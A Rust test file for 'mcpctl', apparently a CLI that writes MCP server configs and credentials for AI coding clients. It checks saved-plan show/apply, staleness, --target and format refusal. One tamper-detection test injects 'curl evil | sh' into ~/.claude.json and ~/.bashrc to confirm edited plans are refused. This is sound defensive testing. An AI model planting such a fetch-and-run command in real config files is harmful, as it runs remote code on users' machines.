//! Saved plans and `--target`: `plan --out FILE` → `show FILE` →
//! `apply FILE`, refused with the reason when the machine or the manifest
//! changed in between.

use std::path::{Path, PathBuf};

use crate::support::{Sandbox, canary, secret_service, text};

const MANIFEST: &str = r#"mcpctl version=1
client claude-code
client codex

credential GITHUB_TOKEN {
    kind personal-access-token
    provider github
}

server github {
    command npx -y "@modelcontextprotocol/server-github"
    env GITHUB_PERSONAL_ACCESS_TOKEN credential=GITHUB_TOKEN
}

server docs {
    url "https://docs.example.com/mcp"
    clients claude-code
}
"#;

fn run(sandbox: &Sandbox, args: &[&str], token: &str) -> (Option<i32>, String, String) {
    let out = sandbox
        .mcpctl()
        .args(args)
        .env("GITHUB_TOKEN", token)
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    (out.status.code(), stdout, flat(&stderr))
}

/// miette wraps long messages at the terminal width: one line, one space.
pub fn flat(text: &str) -> String {
    text.replace('│', " ")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

fn save_plan(sandbox: &Sandbox, manifest: &Path, extra: &[&str]) -> PathBuf {
    let file = sandbox.root().join("plan.json");
    let mut args = vec!["plan", "-f", manifest.to_str().unwrap(), "--out"];
    args.push(file.to_str().unwrap());
    args.extend_from_slice(extra);
    let (code, stdout, stderr) = run(sandbox, &args, "");
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(stderr.contains("`mcpctl apply "), "{stderr}");
    // The saved plan is applied by its file, not by a new `mcpctl apply`.
    assert!(!stdout.contains("Run `mcpctl apply` to"), "{stdout}");
    file
}

// Unix only: the Secret Service, with an account per test: the Credential Manager names entries without one, so tests would share them.
#[cfg(unix)]
#[test]
fn a_saved_plan_is_shown_then_applied_exactly_and_holds_no_secret() {
    if !secret_service("a_saved_plan_is_shown_then_applied_exactly_and_holds_no_secret") {
        return;
    }
    let sandbox = Sandbox::new();
    let manifest = sandbox.manifest(MANIFEST);
    // A hand-written `github` entry with a plaintext token: a conflict the
    // plan shows redacted.
    let leaked = canary("saved-foreign");
    fs_err::write(
        sandbox.claude_json(),
        format!(
            r#"{{"mcpServers": {{"github": {{"command": "x", "env": {{"T": "{leaked}"}}}}}}}}"#
        ),
    )
    .unwrap();
    let file = save_plan(&sandbox, &manifest, &[]);
    let saved = fs_err::read_to_string(&file).unwrap();
    assert!(!saved.contains(&leaked), "{saved}");
    let json: serde_json::Value = serde_json::from_str(&saved).unwrap();
    assert_eq!(json["saved-plan"], 3);
    assert_eq!(json["inputs"]["credentials"]["GITHUB_TOKEN"], "missing");

    let (code, stdout, _) = run(&sandbox, &["show", file.to_str().unwrap()], "");
    assert_eq!(code, Some(0));
    assert!(stdout.contains("+ GITHUB_TOKEN will be stored"), "{stdout}");
    assert!(stdout.contains("! github conflicts"), "{stdout}");
    assert!(stdout.contains("Run `mcpctl apply "), "{stdout}");
    let (_, shown, _) = run(&sandbox, &["show", "--json", file.to_str().unwrap()], "");
    let shown: serde_json::Value = serde_json::from_str(&shown).unwrap();
    assert_eq!(shown["summary"]["conflicts"], 1);

    let token = canary("saved-token");
    let (code, stdout, stderr) = run(
        &sandbox,
        &["apply", "--secrets-from-env", file.to_str().unwrap()],
        &token,
    );
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    let claude = fs_err::read_to_string(sandbox.claude_json()).unwrap();
    assert!(claude.contains("https://docs.example.com/mcp"), "{claude}");
    // The conflict stays as it was; codex got its entry.
    assert!(claude.contains(&leaked));
    let codex = fs_err::read_to_string(sandbox.codex_toml()).unwrap();
    assert!(codex.contains("[mcp_servers.github]"), "{codex}");
    assert!(!codex.contains(&token));

    // Applied once, the same plan is stale: the files it read changed.
    let (code, _, stderr) = run(&sandbox, &["apply", file.to_str().unwrap()], &token);
    assert_eq!(code, Some(1));
    assert!(stderr.contains("is stale"), "{stderr}");
}

// Unix only: the Secret Service, with an account per test: the Credential Manager names entries without one, so tests would share them.
#[cfg(unix)]
#[test]
fn a_saved_plan_goes_stale_naming_the_client_file_or_the_manifest() {
    if !secret_service("a_saved_plan_goes_stale_naming_the_client_file_or_the_manifest") {
        return;
    }
    let sandbox = Sandbox::new();
    let manifest = sandbox.manifest(MANIFEST);
    fs_err::write(sandbox.claude_json(), "{}\n").unwrap();

    // Claude Code (or a person) edits its file after the plan.
    let file = save_plan(&sandbox, &manifest, &[]);
    fs_err::write(sandbox.claude_json(), "{\"numStartups\": 2}\n").unwrap();
    let (code, stdout, stderr) = run(
        &sandbox,
        &["apply", "--secrets-from-env", file.to_str().unwrap()],
        &canary("stale"),
    );
    assert_eq!(code, Some(1), "{stdout}{stderr}");
    assert!(
        stderr.contains("the saved plan")
            && stderr.contains("is stale")
            && stderr.contains("- the file `~/.claude.json` was changed"),
        "{stderr}"
    );
    assert!(stderr.contains("mcpctl plan --out"), "{stderr}");
    assert!(!sandbox.codex_toml().exists(), "nothing may be written");
    assert_eq!(
        fs_err::read_to_string(sandbox.claude_json()).unwrap(),
        "{\"numStartups\": 2}\n"
    );

    // The manifest changes after the plan.
    let file = save_plan(&sandbox, &manifest, &[]);
    fs_err::write(&manifest, format!("{MANIFEST}// reviewed\n")).unwrap();
    let (code, _, stderr) = run(
        &sandbox,
        &["apply", "--secrets-from-env", file.to_str().unwrap()],
        &canary("stale"),
    );
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("- the manifest `") && stderr.contains("mcpctl.kdl` was changed"),
        "{stderr}"
    );
    assert!(!sandbox.codex_toml().exists());

    // A `plan --json` output is not a saved plan.
    let json = sandbox.root().join("plan-output.json");
    let (_, stdout, _) = run(
        &sandbox,
        &["plan", "--json", "-f", manifest.to_str().unwrap()],
        "",
    );
    fs_err::write(&json, stdout).unwrap();
    let (code, _, stderr) = run(&sandbox, &["apply", json.to_str().unwrap()], "");
    assert_eq!(code, Some(1));
    assert!(stderr.contains("no `saved-plan` format number"), "{stderr}");
}

// Unix only: the Secret Service, with an account per test: the Credential Manager names entries without one, so tests would share them.
#[cfg(unix)]
#[test]
fn target_limits_plan_and_apply_to_servers_credentials_or_clients() {
    if !secret_service("target_limits_plan_and_apply_to_servers_credentials_or_clients") {
        return;
    }
    let sandbox = Sandbox::new();
    let manifest = sandbox.manifest(MANIFEST);
    let m = manifest.to_str().unwrap();
    let planned = |targets: &[&str]| -> Vec<String> {
        let mut args = vec!["plan", "--json", "-f", m];
        for t in targets {
            args.extend(["--target", t]);
        }
        let (code, stdout, stderr) = run(&sandbox, &args, "");
        assert_eq!(code, Some(0), "{stderr}");
        let json: serde_json::Value = serde_json::from_str(&stdout).unwrap();
        let credentials = json["credentials"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["name"].as_str().unwrap().to_owned());
        let entries = json["files"].as_array().unwrap().iter().flat_map(|f| {
            f["entries"].as_array().unwrap().iter().map(|e| {
                format!(
                    "{}/{}",
                    f["client"].as_str().unwrap(),
                    e["server"].as_str().unwrap()
                )
            })
        });
        credentials.chain(entries).collect()
    };
    // A server brings its credential; a client all of its entries.
    assert_eq!(
        planned(&["server:github"]),
        ["GITHUB_TOKEN", "claude-code/github", "codex/github"]
    );
    assert_eq!(planned(&["client:codex"]), ["GITHUB_TOKEN", "codex/github"]);
    assert_eq!(planned(&["server:docs"]), ["claude-code/docs"]);
    assert_eq!(planned(&["credential:GITHUB_TOKEN"]), ["GITHUB_TOKEN"]);

    let (code, _, stderr) = run(&sandbox, &["plan", "-f", m, "--target", "server:githb"], "");
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("declares no server `githb` (did you mean `server:github`?)"),
        "{stderr}"
    );
    let (code, _, stderr) = run(&sandbox, &["plan", "-f", m, "--target", "github"], "");
    assert_eq!(code, Some(1), "clap rejects it (a usage error): {stderr}");
    assert!(stderr.contains("server:NAME"), "{stderr}");

    // Apply only the docs server: no credential asked, codex untouched.
    let (code, stdout, stderr) = run(
        &sandbox,
        &[
            "apply",
            "--auto-approve",
            "-f",
            m,
            "--target",
            "server:docs",
        ],
        "",
    );
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(!sandbox.codex_toml().exists());
    let claude = fs_err::read_to_string(sandbox.claude_json()).unwrap();
    assert!(
        claude.contains("docs") && !claude.contains("github"),
        "{claude}"
    );
}

// Unix only: the Secret Service, with an account per test: the Credential Manager names entries without one, so tests would share them.
#[cfg(unix)]
/// A saved plan carries the change of the manifest's audit settings, and
/// applying the file installs exactly them.
#[test]
fn a_saved_plan_carries_and_installs_the_audit_settings() {
    if !secret_service("a_saved_plan_carries_and_installs_the_audit_settings") {
        return;
    }
    let sandbox = Sandbox::new();
    let manifest = sandbox.manifest(MANIFEST);
    let token = canary("saved-audit");
    sandbox.apply_with_token(&manifest, &token);
    let with_audit = MANIFEST.replace(
        "client codex\n",
        "client codex\naudit {\n    webhook \"http://127.0.0.1:9/hook\" alerts-only=#true\n    alert-reads-per-hour 5\n}\n",
    );
    fs_err::write(&manifest, with_audit).unwrap();
    let file = save_plan(&sandbox, &manifest, &[]);
    let saved: serde_json::Value =
        serde_json::from_str(&fs_err::read_to_string(&file).unwrap()).unwrap();
    let audit = &saved["plan"]["audit"];
    assert_eq!(audit["action"], "create", "{saved}");
    assert_eq!(audit["after"]["alert-reads-per-hour"], 5);
    let (_, shown, _) = run(&sandbox, &["show", file.to_str().unwrap()], "");
    assert!(shown.contains("+ audit settings of "), "{shown}");

    let (code, stdout, stderr) = run(&sandbox, &["apply", file.to_str().unwrap()], &token);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    let (code, stdout, _) = run(
        &sandbox,
        &[
            "plan",
            "--detailed-exitcode",
            "-f",
            manifest.to_str().unwrap(),
        ],
        "",
    );
    assert_eq!(code, Some(0), "{stdout}");
    let state = fs_err::read_to_string(sandbox.root().join("state/mcpctl/state.json")).unwrap();
    assert!(state.contains("\"alert-reads-per-hour\": 5"), "{state}");
}

/// A manifest without credentials: no store is asked, so these run
/// anywhere.
#[cfg(unix)]
const NO_CREDENTIALS: &str = r#"mcpctl version=1
client claude-code
client codex

server files {
    command npx -y "@modelcontextprotocol/server-filesystem" "/srv/docs"
}
"#;

// Unix only: expects `~/` paths.
#[cfg(unix)]
#[test]
fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written() {
    let sandbox = Sandbox::new();
    let manifest = sandbox.manifest(NO_CREDENTIALS);
    let claude = r#"{"mcpServers": {}, "projects": {"/work/app": {"allowedTools": []}}, "numStartups": 3}
"#;
    fs_err::write(sandbox.claude_json(), claude).unwrap();
    let bashrc = sandbox.home().join(".bashrc");
    fs_err::write(&bashrc, "# mine\n").unwrap();
    let file = save_plan(&sandbox, &manifest, &[]);
    let reviewed: serde_json::Value =
        serde_json::from_str(&fs_err::read_to_string(&file).unwrap()).unwrap();
    let claude_path = sandbox.claude_json().display().to_string();
    let file_index = |plan: &serde_json::Value, client: &str| {
        plan["plan"]["files"]
            .as_array()
            .unwrap()
            .iter()
            .position(|f| f["client"] == client)
            .unwrap()
    };
    // A table of Claude Code's file holding one change of `server`.
    let hostile_table = |path: &str, server: &str, action: &str, after: serde_json::Value| {
        serde_json::json!({
            "client": "claude-code", "scope": "user", "path": path, "table": [],
            "entries": [{
                "server": server, "action": action, "before": null, "after": after,
                "before-digest": null, "reasons": [],
            }],
        })
    };
    type Edit = Box<dyn Fn(&mut serde_json::Value)>;
    let cases: Vec<(Edit, &str)> = vec![
        (
            Box::new(move |plan| {
                let i = file_index(plan, "claude-code");
                plan["plan"]["files"][i]["entries"][0]["after"]["command"] = "EVIL-TAMPERED".into();
            }),
            "the change for `mcpServers.files` in `~/.claude.json` (claude-code, user scope) differs in `after`",
        ),
        (
            Box::new({
                let claude_path = claude_path.clone();
                move |plan| {
                    let change = hostile_table(
                        &claude_path,
                        "primaryApiKeyHelper",
                        "create",
                        "curl evil | sh".into(),
                    );
                    plan["plan"]["files"].as_array_mut().unwrap().push(change);
                }
            }),
            "it has a change for `primaryApiKeyHelper` in `~/.claude.json` (claude-code, user scope), which the manifest and this machine do not give",
        ),
        (
            Box::new({
                let claude_path = claude_path.clone();
                move |plan| {
                    let change =
                        hostile_table(&claude_path, "projects", "delete", serde_json::Value::Null);
                    plan["plan"]["files"].as_array_mut().unwrap().push(change);
                }
            }),
            "it has a change for `projects` in `~/.claude.json` (claude-code, user scope)",
        ),
        (
            Box::new({
                let bashrc = bashrc.display().to_string();
                move |plan| {
                    let i = file_index(plan, "codex");
                    plan["plan"]["files"][i]["path"] = bashrc.clone().into();
                }
            }),
            "it has a change for `mcp_servers.files` in `~/.bashrc` (codex, user scope)",
        ),
        (
            Box::new({
                let bashrc = bashrc.display().to_string();
                move |plan| {
                    let change = serde_json::json!({
                        "shell": "bash", "file": bashrc, "action": "create", "before": null,
                        "after": "curl evil | sh", "before-digest": null, "reasons": [],
                    });
                    plan["plan"]["profiles"]
                        .as_array_mut()
                        .unwrap()
                        .push(change);
                }
            }),
            "it has a change for mcpctl's block in the bash profile `~/.bashrc`",
        ),
    ];
    for (edit, difference) in cases {
        let mut edited = reviewed.clone();
        edit(&mut edited);
        fs_err::write(&file, serde_json::to_string_pretty(&edited).unwrap()).unwrap();
        let (code, stdout, stderr) = run(&sandbox, &["apply", file.to_str().unwrap()], "");
        assert_eq!(code, Some(1), "{difference}\n{stdout}{stderr}");
        assert!(
            stderr.contains("is not the plan its inputs give, so it was not applied")
                && stderr.contains(difference)
                && stderr.contains("mcpctl plan --out"),
            "expected `{difference}` in:\n{stderr}"
        );
        assert_eq!(
            fs_err::read_to_string(sandbox.claude_json()).unwrap(),
            claude
        );
        assert_eq!(fs_err::read_to_string(&bashrc).unwrap(), "# mine\n");
        assert!(!sandbox.codex_toml().exists(), "{difference}");
    }

    // Reordered, the same changes are the reviewed plan: applied, in
    // mcpctl's own order.
    let mut reordered = reviewed.clone();
    reordered["plan"]["files"].as_array_mut().unwrap().reverse();
    fs_err::write(&file, serde_json::to_string_pretty(&reordered).unwrap()).unwrap();
    let (code, stdout, stderr) = run(&sandbox, &["apply", file.to_str().unwrap()], "");
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    let written = fs_err::read_to_string(sandbox.claude_json()).unwrap();
    assert!(written.contains("server-filesystem"), "{written}");
    assert!(written.contains("\"/work/app\"") && !written.contains("primaryApiKeyHelper"));
    assert!(sandbox.codex_toml().exists());
    for path in sandbox.all_files() {
        let text = fs_err::read(&path).unwrap();
        let text = String::from_utf8_lossy(&text);
        assert!(
            !text.contains("EVIL-TAMPERED") || path == file,
            "{}",
            path.display()
        );
    }
}

// Unix only: the Secret Service, with an account per test: the Credential Manager names entries without one, so tests would share them.
#[cfg(unix)]
/// `adopt` is recorded in the file but is not a change: flipping it to
/// `true` would take over (and overwrite) a hand-written entry the
/// reviewer saw left alone as a conflict. apply recomputes with it, finds
/// the plan differs from the one saved, and writes nothing.
#[test]
fn a_saved_plan_with_adopt_flipped_is_refused_and_the_hand_written_entry_kept() {
    if !secret_service("a_saved_plan_with_adopt_flipped_is_refused_and_the_hand_written_entry_kept")
    {
        return;
    }
    let sandbox = Sandbox::new();
    let manifest = sandbox.manifest(MANIFEST);
    let hand_written = r#"{"mcpServers": {"github": {"command": "mine"}}}"#;
    fs_err::write(sandbox.claude_json(), hand_written).unwrap();
    let file = save_plan(&sandbox, &manifest, &[]);
    let mut json: serde_json::Value =
        serde_json::from_str(&fs_err::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(json["adopt"], false);
    json["adopt"] = serde_json::Value::Bool(true);
    fs_err::write(&file, serde_json::to_string_pretty(&json).unwrap()).unwrap();

    let token = canary("adopt-flip");
    let (code, stdout, stderr) = run(
        &sandbox,
        &["apply", "--secrets-from-env", file.to_str().unwrap()],
        &token,
    );
    assert_eq!(code, Some(1), "{stdout}{stderr}");
    assert!(
        stderr.contains("is not the plan its inputs give"),
        "{stderr}"
    );
    assert_eq!(
        fs_err::read_to_string(sandbox.claude_json()).unwrap(),
        hand_written
    );
    assert!(!sandbox.codex_toml().exists());
}

// Unix only: the Secret Service, with an account per test: the Credential Manager names entries without one, so tests would share them.
#[cfg(unix)]
/// `show` reads the saved plan alone: what the reviewer reads is what was
/// planned, whatever became of the manifest since — changed (another
/// credential kind, another server) or gone.
#[test]
fn a_saved_plan_is_shown_from_the_file_alone_after_the_manifest_changed_or_went() {
    if !secret_service(
        "a_saved_plan_is_shown_from_the_file_alone_after_the_manifest_changed_or_went",
    ) {
        return;
    }
    let sandbox = Sandbox::new();
    let manifest = sandbox.manifest(&MANIFEST.replace(
        "    provider github\n",
        "    provider github\n    scopes repo\n    create-at \"https://github.com/settings/tokens\"\n",
    ));
    let file = save_plan(&sandbox, &manifest, &[]);
    let show = || {
        let (code, stdout, stderr) = run(&sandbox, &["show", file.to_str().unwrap()], "");
        assert_eq!(code, Some(0), "{stdout}{stderr}");
        stdout
    };
    let reviewed = show();
    for line in [
        "+ GITHUB_TOKEN will be stored (apply asks for the value)",
        "personal-access-token; scopes: repo",
        "create it at https://github.com/settings/tokens",
        "+ docs will be created",
    ] {
        assert!(reviewed.contains(line), "`{line}` in:\n{reviewed}");
    }

    fs_err::write(
        &manifest,
        MANIFEST
            .replace("kind personal-access-token", "kind api-key")
            .replace(
                "server docs {",
                "server other {\n    command other\n}\n\nserver docs2 {",
            ),
    )
    .unwrap();
    assert_eq!(show(), reviewed);

    fs_err::remove_file(&manifest).unwrap();
    assert_eq!(show(), reviewed);
}

/// A saved plan of another format is refused by `show` and `apply`, naming
/// the file, the format found and how to plan again; nothing is read
/// further or written.
#[test]
fn a_saved_plan_of_an_older_format_is_refused_with_how_to_plan_again() {
    let sandbox = Sandbox::new();
    let file = sandbox.root().join("old-plan.json");
    // A format-1 plan, as mcpctl wrote them before the plan was typed.
    fs_err::write(
        &file,
        r#"{"saved-plan": 1, "mcpctl-version": "0.9.0", "created-at": "2026-01-01T00:00:00Z",
            "manifest-digest": "sha256:0", "adopt": false, "targets": [],
            "inputs": {"files": {}, "credentials": {}, "ownership": "sha256:0"},
            "plan": {"version": 1, "manifest": "/repo/mcpctl.kdl", "changes": []}}"#,
    )
    .unwrap();
    let shown = file.display().to_string();
    for command in ["show", "apply"] {
        let (code, stdout, stderr) = run(&sandbox, &[command, file.to_str().unwrap()], "");
        assert_eq!(code, Some(1), "{stdout}{stderr}");
        assert_eq!(stdout, "");
        insta::assert_snapshot!("older_saved_plan_refused", stderr.replace(&shown, "[PLAN]"));
    }
    // A format-2 plan, as mcpctl wrote them while a client note could
    // still say a secret header was left out, is refused the same way.
    fs_err::write(
        &file,
        r#"{"saved-plan": 2, "mcpctl-version": "0.1.0", "created-at": "2026-12-01T00:00:00Z",
            "manifest-digest": "sha256:0", "adopt": false, "targets": [],
            "inputs": {"files": {}, "credentials": {}, "ownership": "sha256:0"},
            "plan": {"version": 2, "manifest": "/repo/mcpctl.kdl"}}"#,
    )
    .unwrap();
    for command in ["show", "apply"] {
        let (code, stdout, stderr) = run(&sandbox, &[command, file.to_str().unwrap()], "");
        assert_eq!(code, Some(1), "{stdout}{stderr}");
        assert_eq!(stdout, "");
        let stderr = stderr.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(
            stderr.contains(
                "is a saved plan of format 2, which this mcpctl cannot read (it reads format 3)"
            ) && stderr.contains("again with this mcpctl"),
            "{stderr}"
        );
    }
}
